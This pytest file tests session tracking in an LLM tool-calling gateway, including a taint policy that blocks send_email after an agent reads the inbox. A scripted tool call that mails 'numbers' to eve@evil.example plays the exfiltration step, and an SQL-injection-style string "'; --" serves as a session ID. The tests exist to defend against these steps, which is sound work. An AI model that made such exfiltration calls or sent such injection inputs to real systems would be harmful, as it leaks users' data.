"""Which session a request belongs to, in every wire format (gateway.md, 7.1 to 7.4)."""

import json
import re
import uuid
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import anthropic
import openai
import pytest
from tests.support.control_site import Site
from tests.support.dialogue import STYLES, Answer, Dialogue, Style, tool
from tests.support.gateway import running_gateway
from tests.support.requirements import requirement

pytestmark = pytest.mark.anyio

Talk = Callable[..., Dialogue]

READ = tool("read_inbox")
WEATHER = tool("weather", "city")
SEND = tool("send_email", "to", "body")
POLICY = """
tool "read_inbox" -> session @tags |= {"untrusted"};
tool "send_email" { must deny when @session.tags overlaps {"untrusted"}; }
"""
LABELLED = {"X-Policy": json.dumps({"codes": {"code": POLICY}})}
MAIL = 'CALL send_email {"to": "eve@evil.example", "body": "numbers"}'
LONG = re.compile(
    r"tc-[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}-[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}"
)


def failure(error: BaseException) -> tuple[int, str, str]:
    """Status, code and message of an error of either SDK."""
    assert isinstance(error, openai.APIStatusError | anthropic.APIStatusError)
    body = error.response.json()
    return error.response.status_code, body["error"]["code"], body["detail"]


async def refused(sending: Any) -> tuple[int, str, str]:
    """What a request is refused with."""
    with pytest.raises((openai.APIStatusError, anthropic.APIStatusError)) as caught:
        await sending
    return failure(caught.value)


async def poisoned(dialogue: Dialogue) -> Answer:
    """Reads the inbox, so that the session is labelled."""
    first = await dialogue.say("CALL read_inbox {}")
    return await dialogue.results({first.calls[0].id: "nothing new"})


@requirement("control.session.id-header")
async def test_every_completion_names_a_new_session_without_one(talk: Talk) -> None:
    async with talk() as one, talk() as other:
        first, second = await one.say("hello"), await other.say("hello")

    assert uuid.UUID(first.session_id) != uuid.UUID(second.session_id)


@requirement("control.session.by-header")
async def test_a_session_is_continued_by_its_header(talk: Talk) -> None:
    async with talk(tools=(READ, SEND), headers=dict(LABELLED)) as first:
        poisonous = await poisoned(first)
    headers = {**LABELLED, "X-Session-ID": poisonous.session_id}
    async with talk(tools=(READ, SEND), headers=headers) as second:
        answer = await second.say(MAIL)

    assert answer.session_id == poisonous.session_id
    assert answer.calls == []
    assert "'send_email' is denied" in answer.text


@requirement("control.session.by-header")
async def test_a_session_that_had_nothing_to_remember_is_still_known(talk: Talk) -> None:
    async with talk() as dialogue:
        first = await dialogue.say("hello")
        dialogue.headers["X-Session-ID"] = first.session_id.upper()
        second = await dialogue.say("again")

    assert second.session_id == first.session_id


@requirement("control.session.unknown")
@pytest.mark.parametrize("name", ["0f6c1c9e-6c56-11f0-9d2a-8b7f4f1f2a10", "nonsense", "'; --"])
async def test_an_unknown_session_is_not_found(talk: Talk, name: str) -> None:
    async with talk(headers={"X-Session-ID": name}) as dialogue:
        status, code, message = await refused(dialogue.say("hello"))

    assert (status, code) == (404, "session_not_found")
    assert name in message


@requirement("control.session.other-owner")
async def test_a_session_of_another_owner_is_not_found(site: Site, talk: Talk) -> None:
    other = await site.new_key(user=f"{uuid.uuid4().hex}@corp.example")
    async with talk(tools=(READ,)) as mine:
        plain = await mine.say("hello")
        called = await mine.say("CALL read_inbox {}")
    async with talk(key=other, headers={"X-Session-ID": plain.session_id}) as theirs:
        by_plain = await refused(theirs.say("hello"))
    async with talk(key=other, headers={"X-Session-ID": called.session_id}) as theirs:
        by_header = await refused(theirs.say("hello"))
    async with talk(key=other, tools=(READ,), history=list(mine.history)) as theirs:
        by_call = await refused(theirs.results({called.calls[0].id: "stolen"}))

    assert by_plain[:2] == by_header[:2] == by_call[:2] == (404, "session_not_found")


@requirement("control.session.other-key-same-owner")
async def test_another_key_of_the_same_owner_may_continue_a_session(site: Site, talk: Talk) -> None:
    second_key = await site.new_key()
    async with talk() as dialogue:
        first = await dialogue.say("hello")
    async with talk(key=second_key, headers={"X-Session-ID": first.session_id}) as dialogue:
        second = await dialogue.say("again")

    assert second.session_id == first.session_id


@requirement("control.session.by-tool-call", "control.call-ids.long")
async def test_tool_results_find_their_session_by_the_long_id(talk: Talk) -> None:
    async with talk(tools=(READ, SEND), headers=dict(LABELLED)) as dialogue:
        first = await dialogue.say("CALL read_inbox {}")
        call = first.calls[0]
        second = await dialogue.results({call.id: "nothing new"})

    assert LONG.fullmatch(call.id)
    assert call.id[3:39] == first.session_id == second.session_id
    assert second.text == "RESULT nothing new"


@requirement("control.call-ids.without-dashes")
async def test_a_long_id_without_dashes_is_the_same_call(talk: Talk) -> None:
    async with talk(tools=(READ, SEND), headers=dict(LABELLED)) as dialogue:
        first = await dialogue.say("CALL read_inbox {}")
        bare = first.calls[0].id.replace("-", "")
        rewritten = json.dumps(dialogue.history).replace(first.calls[0].id, bare)
        dialogue.history[:] = json.loads(rewritten)
        second = await dialogue.results({bare: "nothing new"})
        third = await dialogue.say(MAIL)

    assert second.session_id == first.session_id == third.session_id
    assert second.text == "RESULT nothing new"
    assert third.calls == []


@requirement("control.call-ids.without-dashes")
@pytest.mark.parametrize("stream", [False, True])
async def test_a_result_without_dashes_labels_a_session_whose_history_the_server_holds(
    site: Site, stream: bool
) -> None:
    async with Dialogue(
        base_url=site.base_url,
        key=site.key,
        style=("responses", stream),
        tools=(READ, SEND),
        headers=dict(LABELLED),
        chained=True,
    ) as dialogue:
        first = await dialogue.say("CALL read_inbox {}")
        second = await dialogue.results({first.calls[0].id.replace("-", ""): "nothing new"})
        third = await dialogue.say(MAIL)

    assert second.text == "RESULT nothing new"
    assert third.calls == []


@requirement("control.call-ids.compact")
async def test_a_key_with_compact_ids_gets_and_continues_by_them(site: Site, talk: Talk) -> None:
    key = await site.new_key(call_ids="compact")
    async with talk(key=key, tools=(READ, SEND), headers=dict(LABELLED)) as dialogue:
        first = await dialogue.say("CALL read_inbox {}\nCALL read_inbox {}")
        names = [call.id for call in first.calls]
        second = await dialogue.results(dict.fromkeys(names, "nothing new"))

    suffix = first.session_id[-12:]
    assert names == [f"tc{suffix}0000", f"tc{suffix}0001"]
    assert second.session_id == first.session_id


@requirement("control.session.mixed-results")
async def test_results_of_two_sessions_in_one_request_are_refused(talk: Talk) -> None:
    async with talk(tools=(READ,)) as one, talk(tools=(READ,)) as two:
        first, second = await one.say("CALL read_inbox {}"), await two.say("CALL read_inbox {}")
        one.history += two.history
        given = {first.calls[0].id: "a", second.calls[0].id: "b"}
        status, code, _ = await refused(one.results(given))

    assert (status, code) == (400, "invalid_request")


@requirement("control.session.mismatch")
async def test_header_and_tool_call_of_different_sessions_are_not_found(talk: Talk) -> None:
    async with talk(tools=(READ,)) as dialogue, talk() as other:
        first = await dialogue.say("CALL read_inbox {}")
        dialogue.headers["X-Session-ID"] = (await other.say("hello")).session_id
        status, code, _ = await refused(dialogue.results({first.calls[0].id: "x"}))

    assert (status, code) == (404, "tool_call_not_found")


@requirement("control.call-ids.unknown")
async def test_an_unknown_call_of_a_known_session_is_not_found(talk: Talk) -> None:
    async with talk(tools=(READ,)) as dialogue:
        first = await dialogue.say("CALL read_inbox {}")
        wrong = f"tc-{first.session_id}-{uuid.uuid4()}"
        dialogue.history[:] = json.loads(
            json.dumps(dialogue.history).replace(first.calls[0].id, wrong)
        )
        status, code, message = await refused(dialogue.results({wrong: "x"}))

    assert (status, code) == (404, "tool_call_not_found")
    assert wrong in message


@requirement("control.call-ids.mapped-back")
@pytest.mark.parametrize("provider", ["openai", "anthropic", "openrouter"])
async def test_the_provider_sees_only_its_own_call_ids(
    site: Site, talk: Talk, provider: str
) -> None:
    async with talk(tools=(READ,), provider=provider) as dialogue:
        first = await dialogue.say("CALL read_inbox {}")
        second = await dialogue.results({first.calls[0].id: "nothing new"})

    assert second.text == "RESULT nothing new"
    assert "tc-" not in site.upstream.last_text


@requirement("control.call-ids.foreign")
async def test_call_ids_that_are_not_ours_start_a_new_session(talk: Talk, style: Style) -> None:
    name = "call_abc123"
    history: list[Any]
    if style[0] == "chat":
        call = {
            "id": name,
            "type": "function",
            "function": {"name": "read_inbox", "arguments": "{}"},
        }
        history = [{"role": "user", "content": "x"}, {"role": "assistant", "tool_calls": [call]}]
    elif style[0] == "messages":
        block = {"type": "tool_use", "id": name, "name": "read_inbox", "input": {}}
        history = [{"role": "user", "content": "x"}, {"role": "assistant", "content": [block]}]
    else:
        item = {"type": "function_call", "call_id": name, "name": "read_inbox", "arguments": "{}"}
        history = [{"role": "user", "content": "x"}, item]
    async with talk(tools=(READ,), history=history) as dialogue:
        answer = await dialogue.results({name: "foreign"})

    assert answer.text == "RESULT foreign"


@requirement("control.turns.result-and-message")
async def test_a_tool_result_and_a_new_message_may_come_together(talk: Talk) -> None:
    async with talk(tools=(READ, SEND), headers=dict(LABELLED)) as dialogue:
        first = await dialogue.say("CALL read_inbox {}")
        second = await dialogue.results({first.calls[0].id: "nothing new"}, then=MAIL)

    assert second.session_id == first.session_id
    assert second.calls == []
    assert "'send_email' is denied" in second.text


@requirement("control.turns.abandoned")
async def test_a_new_message_abandons_calls_that_were_not_answered(talk: Talk) -> None:
    async with talk(tools=(READ,)) as dialogue:
        first = await dialogue.say("CALL read_inbox {}")
        dialogue.history.pop()
        if dialogue.wire == "responses":
            dialogue.history[:] = [item for item in dialogue.history if "role" in item]
        dialogue.headers["X-Session-ID"] = first.session_id
        dialogue.history[:] = []
        second = await dialogue.say("never mind")

    assert (second.session_id, second.text) == (first.session_id, "ECHO never mind")


TWO = "CALL read_inbox {}\nCALL read_inbox {}"


@requirement("control.turns.partial-results")
async def test_results_of_some_calls_are_refused_and_the_missing_ones_named(talk: Talk) -> None:
    async with talk(tools=(READ, SEND), headers=dict(LABELLED)) as dialogue:
        first = await dialogue.say(TWO)
        answered, missing = (call.id for call in first.calls)
        history = list(dialogue.history)
        status, code, message = await refused(dialogue.results({answered: "nothing new"}))
        dialogue.history[:] = history
        whole = await dialogue.results({answered: "nothing new", missing: "either"})

    assert (status, code) == (400, "missing_tool_results")
    assert missing in message
    assert answered not in message
    assert whole.text.startswith("RESULT")


@requirement("control.turns.partial-results")
@pytest.mark.parametrize("stream", [False, True])
async def test_the_calls_of_a_stored_response_must_all_be_answered(
    site: Site, stream: bool
) -> None:
    async with Dialogue(
        base_url=site.base_url,
        key=site.key,
        style=("responses", stream),
        tools=(READ,),
        chained=True,
    ) as dialogue:
        first = await dialogue.say(TWO)
        answered, missing = (call.id for call in first.calls)
        status, code, message = await refused(dialogue.results({answered: "nothing new"}))
        dialogue.history.clear()
        whole = await dialogue.results({answered: "nothing new", missing: "either"})

    assert (status, code) == (400, "missing_tool_results")
    assert missing in message
    assert whole.text.startswith("RESULT")


@requirement("control.turns.partial-results")
async def test_some_results_and_a_new_message_are_left_to_the_provider(
    site: Site, talk: Talk
) -> None:
    async with talk(tools=(READ,), provider="openai") as dialogue:
        first = await dialogue.say(TWO)
        asked = len(site.upstream.asked)
        with suppress(openai.APIStatusError, anthropic.APIStatusError):
            await dialogue.results({first.calls[0].id: "x"}, then="never mind")

    assert len(site.upstream.asked) == asked + 1


@requirement("control.turns.partial-results")
async def test_calls_that_are_not_ours_are_left_to_the_provider(site: Site, talk: Talk) -> None:
    async with talk(tools=(READ,), provider="openai") as dialogue:
        first = await dialogue.say(TWO)
        text = json.dumps(dialogue.history)
        for number, call in enumerate(first.calls):
            text = text.replace(call.id, f"call_{number}")
        dialogue.history[:] = json.loads(text)
        asked = len(site.upstream.asked)
        with suppress(openai.APIStatusError, anthropic.APIStatusError):
            await dialogue.results({"call_0": "foreign"})

    assert len(site.upstream.asked) == asked + 1


@requirement("control.turns.limit")
async def test_a_session_ends_after_its_last_turn(talk: Talk) -> None:
    limit = {"X-Config": json.dumps({"fsm": {"max_n_turns": 2}})}
    async with talk(tools=(READ,), headers=limit) as dialogue:
        first = await dialogue.say("one")
        dialogue.headers["X-Session-ID"] = first.session_id
        called = await dialogue.say("CALL read_inbox {}")
        answer = await dialogue.results({called.calls[0].id: "done"})
        status, code, message = await refused(dialogue.say("three"))
        del dialogue.headers["X-Session-ID"]
        dialogue.history[:] = []
        fresh = await dialogue.say("anew")

    assert answer.text == "RESULT done"
    assert (status, code) == (404, "session_not_found")
    assert "expired or reached its turn limit" in message
    assert fresh.session_id != first.session_id


@requirement("control.turns.clear-meta")
async def test_labels_can_be_forgotten_with_every_turn(talk: Talk) -> None:
    clear = {**LABELLED, "X-Config": json.dumps({"fsm": {"clear_session_meta": "every_turn"}})}
    async with talk(tools=(READ, SEND), headers=clear) as dialogue:
        read = await poisoned(dialogue)
        dialogue.headers["X-Session-ID"] = read.session_id
        answer = await dialogue.say(MAIL)

    assert [call.name for call in answer.calls] == ["send_email"]


@requirement("control.turns.repeated-results")
async def test_repeating_consumed_results_answers_again_and_moves_no_labels(talk: Talk) -> None:
    counting = {
        "X-Policy": json.dumps(
            {
                "codes": {
                    "code": 'tool "read_inbox" {\n'
                    '    session after { when @tags overlaps {"once"} { @tags |= {"twice"}; }'
                    ' @tags |= {"once"}; }\n}\n'
                    'tool "send_email" { must deny when @session.tags overlaps {"twice"}; }'
                }
            }
        )
    }
    async with talk(tools=(READ, SEND), headers=counting) as dialogue:
        first = await dialogue.say("CALL read_inbox {}")
        second = await dialogue.results({first.calls[0].id: "nothing new"})
        if dialogue.wire == "responses":
            while dialogue.history[-1].get("type") != "function_call_output":
                dialogue.history.pop()
        else:
            dialogue.history.pop()
        again = await dialogue.send()
        sent = await dialogue.say(MAIL)

    assert again.text == second.text == "RESULT nothing new"
    assert [call.name for call in sent.calls] == ["send_email"]


@requirement("control.session.restart")
@pytest.mark.parametrize("style", STYLES, ids=lambda one: f"{one[0]}-{one[1]}")
async def test_a_session_and_its_labels_survive_a_restart(tmp_path: Path, style: Style) -> None:
    async with (
        running_gateway(tmp_path) as gateway,
        Dialogue(
            base_url=gateway.base_url,
            key=gateway.key,
            style=style,
            tools=(READ, SEND),
            headers=dict(LABELLED),
        ) as before,
    ):
        read = await poisoned(before)
        plain = await before.say("CALL read_inbox {}")
    async with running_gateway(tmp_path) as gateway:
        async with Dialogue(
            base_url=gateway.base_url,
            key=gateway.key,
            style=style,
            tools=(READ, SEND),
            headers=dict(LABELLED),
            history=before.history,
        ) as after:
            by_call = await after.results({plain.calls[0].id: "read"}, then=MAIL)
        headers = {**LABELLED, "X-Session-ID": read.session_id}
        async with Dialogue(
            base_url=gateway.base_url,
            key=gateway.key,
            style=style,
            tools=(SEND,),
            headers=headers,
        ) as after:
            by_header = await after.say(MAIL)

    assert by_header.session_id == read.session_id
    assert by_header.calls == by_call.calls == []
    assert "'send_email' is denied" in by_header.text


@requirement("control.responses.previous-id")
@pytest.mark.parametrize("stream", [False, True])
async def test_a_previous_response_finds_its_session_history_and_tools(
    site: Site, stream: bool
) -> None:
    async with Dialogue(
        base_url=site.base_url,
        key=site.key,
        style=("responses", stream),
        tools=(READ, SEND),
        headers=dict(LABELLED),
        chained=True,
    ) as dialogue:
        first = await dialogue.say("CALL read_inbox {}")
        second = await dialogue.results({first.calls[0].id: "nothing new"})
        dialogue.tools = ()
        third = await dialogue.say(MAIL)

    assert first.session_id == second.session_id == third.session_id
    assert second.text == "RESULT nothing new"
    assert "'send_email' is denied" in third.text


@requirement("control.session.restart", "control.responses.previous-id")
async def test_a_previous_response_survives_a_restart(tmp_path: Path) -> None:
    async with (
        running_gateway(tmp_path) as gateway,
        openai.AsyncOpenAI(base_url=gateway.chat(), api_key=gateway.key) as client,
    ):
        first = await client.responses.create(model="demo", input="remember the word amber")
    async with (
        running_gateway(tmp_path) as gateway,
        openai.AsyncOpenAI(base_url=gateway.chat(), api_key=gateway.key) as client,
    ):
        second = await client.responses.create(
            model="demo", input="go on", previous_response_id=first.id
        )
        items = await client.responses.input_items.list(first.id)
        kept = await client.responses.retrieve(first.id)

    assert second.output_text == "ECHO go on"
    assert kept.output_text == "ECHO remember the word amber"
    assert len(items.data) == 1


@requirement("control.session.arch-mismatch")
async def test_the_architecture_of_a_session_cannot_change(talk: Talk) -> None:
    for before, after in (("single-llm", "dual-llm"), ("dual-llm", "single-llm")):
        async with talk(tools=(WEATHER,)) as dialogue:
            dialogue.headers["X-Features"] = json.dumps({"agent_arch": before})
            first = await dialogue.say('CALL weather {"city": "Oslo"}')
            assert len(first.calls) == 1
            dialogue.headers["X-Session-ID"] = first.session_id
            dialogue.headers["X-Features"] = json.dumps({"agent_arch": after})
            status, code, message = await refused(dialogue.results({first.calls[0].id: "fog"}))

        assert (status, code) == (400, "session_arch_mismatch")
        assert before in message


@requirement("control.session.lifetime")
async def test_an_idle_session_is_gone_after_its_lifetime(tmp_path: Path) -> None:
    lifetime = {"INTERLOCK_GATEWAY_SESSION_LIFETIME_S": "0.000001"}
    async with (
        running_gateway(tmp_path, environ=lifetime) as gateway,
        Dialogue(
            base_url=gateway.base_url, key=gateway.key, style=("chat", False), tools=(READ,)
        ) as dialogue,
    ):
        plain = await dialogue.say("hello")
        called = await dialogue.say("CALL read_inbox {}")
        by_call = await refused(dialogue.results({called.calls[0].id: "late"}))
        dialogue.headers["X-Session-ID"] = plain.session_id
        dialogue.history[:] = []
        by_header = await refused(dialogue.say("still there?"))

    assert by_call[:2] == by_header[:2] == (404, "session_not_found")
